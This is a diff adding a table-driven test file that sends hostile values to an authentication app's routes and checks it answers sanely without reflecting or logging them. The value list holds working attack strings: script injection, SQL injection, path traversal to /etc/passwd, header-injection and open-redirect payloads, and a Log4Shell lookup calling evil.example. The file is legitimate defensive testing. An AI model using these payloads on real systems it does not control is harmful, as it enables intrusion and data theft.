@@ -1,0 +1,177 @@
+/**
+ * Hostile input, table-driven: a few hundred nasty values sent to every route, as query values,
+ * form fields, cookies, content types, bodies and methods. Each must get a page or status that
+ * makes sense (never a 5xx, never a stack trace, never the value reflected raw), and nothing
+ * the value contains may be logged.
+ */
+import { describe, expect, it } from 'vitest'
+import { Browser } from './browser'
+import { captureLogs } from './flow'
+
+const VALUES: readonly string[] = [
+  '',
+  ' ',
+  'a'.repeat(10_000),
+  '%',
+  '%zz',
+  '%E0%A4%A',
+  '%C3%28',
+  '%FF%FE',
+  '%00',
+  '%0d%0aSet-Cookie:%20x=1',
+  '\u0000',
+  '\r\nLocation: https://evil.example',
+  '\u202egnp.exe',
+  '😀'.repeat(50),
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  "' OR '1'='1",
+  '../../../../etc/passwd',
+  '//evil.example',
+  '/\\evil.example',
+  'https://evil.example',
+  'javascript:alert(1)',
+  'data:text/html,hi',
+  'https://www.example.com@evil.example',
+  '/%2f%2fevil.example',
+  '${jndi:ldap://evil.example/a}',
+  '{{ .Token }}',
+  'recovery',
+  'pkce_' + 'f'.repeat(56),
+  'f'.repeat(56),
+  'null',
+  'undefined',
+  '[object Object]',
+  '__proto__',
+  'constructor',
+  '-1',
+  '1e309',
+  'NaN',
+]
+
+/** Values long or distinctive enough that finding them in a log means we logged input. */
+const LOGGABLE = VALUES.filter((v) => v.length >= 8 && !['recovery', 'undefined', 'constructor'].includes(v))
+
+function assertSane(res: Response, html: string, value: string) {
+  expect(res.status, `status for ${JSON.stringify(value.slice(0, 40))}`).toBeLessThan(500)
+  expect(html).not.toMatch(/\bat [\w.]+ \(|TypeError|ReferenceError|SyntaxError|stack/i)
+  if (value.includes('<')) expect(html).not.toContain(value)
+  const type = res.headers.get('content-type') ?? ''
+  if (res.status !== 303 && res.status !== 302 && res.status !== 204) expect(type).toMatch(/text\/html|application\/json|text\/css/)
+}
+
+const QUERY_TARGETS = [
+  ['/auth/confirm', 'token_hash'],
+  ['/auth/confirm', 'type'],
+  ['/auth/confirm', 'next'],
+  ['/auth/confirm', 'code'],
+  ['/auth/confirm', 'error_code'],
+  ['/auth/auth-code-error', 'reason'],
+  ['/account/forgot-password', 'reason'],
+  ['/account/update-password', 'next'],
+] as const
+
+describe('hostile query values', () => {
+  it.each(QUERY_TARGETS)('%s?%s=…', async (path, param) => {
+    const { lines } = await captureLogs(async () => {
+      for (const value of VALUES) {
+        const browser = new Browser()
+        // Raw (unencoded) where the value is itself an encoding trick, encoded otherwise.
+        const encoded = /^%/.test(value) ? value : encodeURIComponent(value)
+        const base = param === 'token_hash' || param === 'next' ? `type=recovery&token_hash=${'c'.repeat(56)}&` : ''
+        const res = await browser.get(`${path}?${base}${param}=${encoded}&${param}=${encoded}`)
+        assertSane(res, await res.text(), value)
+        if (res.status === 303 || res.status === 302) {
+          const location = res.headers.get('location') ?? ''
+          expect(location.startsWith('/') || location.startsWith('https://www.example.com/')).toBe(true)
+          expect(location).not.toMatch(/evil/)
+        }
+      }
+    })
+    for (const value of LOGGABLE) expect(lines.join('\n')).not.toContain(value)
+  })
+})
+
+const FORMS = [
+  ['/account/forgot-password', ['email']],
+  ['/account/verify-code', ['email', 'code']],
+  ['/auth/confirm', ['token_hash', 'type', 'next']],
+  ['/account/update-password', ['password', 'password_confirm', 'next']],
+] as const
+
+describe('hostile form values', () => {
+  it.each(FORMS)('POST %s', async (path, fields) => {
+    const { lines } = await captureLogs(async () => {
+      for (const value of VALUES) {
+        const browser = new Browser()
+        await browser.get('/account/forgot-password')
+        const form: Record<string, string> = { csrf_token: browser.jar.get('__Host-csrf') ?? '' }
+        for (const field of fields) form[field] = value
+        const res = await browser.post(path, form)
+        assertSane(res, await res.text(), value)
+      }
+    })
+    for (const value of LOGGABLE) expect(lines.join('\n')).not.toContain(value)
+  })
+})
+
+const COOKIES = [
+  'sb-127-auth-token=base64-%%%',
+  'sb-127-auth-token=base64-eyJub3QiOiJqc29uIg',
+  'sb-127-auth-token=not-base64-and-not-json',
+  `sb-127-auth-token=base64-${btoa(JSON.stringify({ access_token: 'a.b.c', refresh_token: 'x', expires_at: 1 }))}`,
+  `sb-127-auth-token=base64-${btoa(JSON.stringify({ access_token: 'eyJhbGciOiJFUzI1NiIsImtpZCI6Im5vcGUifQ.eyJzdWIiOiJ4In0.sig', refresh_token: 'abcdefghijkl', expires_at: 9999999999, expires_in: 3600, token_type: 'bearer', user: {} }))}`,
+  'sb-127-auth-token.0=base64-eyJhY2Nlc3NfdG9rZW4iOi',
+  'sb-127-auth-token.1=only-the-second-chunk',
+  `sb-127-auth-token=${'A'.repeat(8000)}`,
+  '__Host-csrf=' + 'x'.repeat(5000),
+  'confirmed-link=; __Host-confirmed-link=' + 'y'.repeat(300),
+  '=;;;==; =x',
+]
+
+describe('corrupt, truncated and oversized cookies', () => {
+  it.each(['/account/update-password', '/auth/confirm?token_hash=' + 'd'.repeat(56) + '&type=recovery', '/account/forgot-password', '/'])(
+    'GET %s',
+    async (path) => {
+      for (const cookie of COOKIES) {
+        const res = await new Browser().get(path, { cookie })
+        assertSane(res, await res.text(), cookie)
+        if (path === '/account/update-password') expect(res.status).toBe(303)
+      }
+    },
+  )
+})
+
+describe('wrong content types, bodies and methods', () => {
+  const CONTENT = [
+    ['application/json', '{"email":"a@example.com"}'],
+    ['text/plain', 'email=a@example.com'],
+    ['multipart/form-data; boundary=zzz', '--zzz\r\nContent-Disposition: form-data; name="email"\r\n\r\na@example.com\r\n--zzz--\r\n'],
+    ['multipart/form-data; boundary=zzz', 'garbage without boundaries'],
+    ['application/x-www-form-urlencoded', '%%%=%%%&&&=='],
+    ['application/x-www-form-urlencoded', 'email=' + 'x'.repeat(100_000)],
+    ['application/xml', '<email>a@example.com</email>'],
+  ] as const
+
+  it.each(CONTENT)('POST with %s', async (type, body) => {
+    for (const path of ['/account/forgot-password', '/auth/confirm', '/account/update-password', '/account/verify-code']) {
+      const browser = new Browser()
+      await browser.get('/account/forgot-password')
+      const res = await browser.request(path, {
+        method: 'POST',
+        body,
+        headers: { 'content-type': type, origin: browser.origin, 'sec-fetch-site': 'same-origin' },
+      })
+      assertSane(res, await res.text(), body)
+      expect([400, 403, 413, 415]).toContain(res.status)
+    }
+  })
+
+  it.each(['PUT', 'DELETE', 'PATCH', 'OPTIONS', 'PROPFIND'])('%s on every route', async (method) => {
+    for (const path of ['/', '/auth/confirm', '/account/forgot-password', '/account/update-password', '/account/verify-code', '/healthz']) {
+      const res = await new Browser().request(path, { method })
+      assertSane(res, await res.text(), method)
+      expect([404, 405]).toContain(res.status)
+    }
+  })
+})
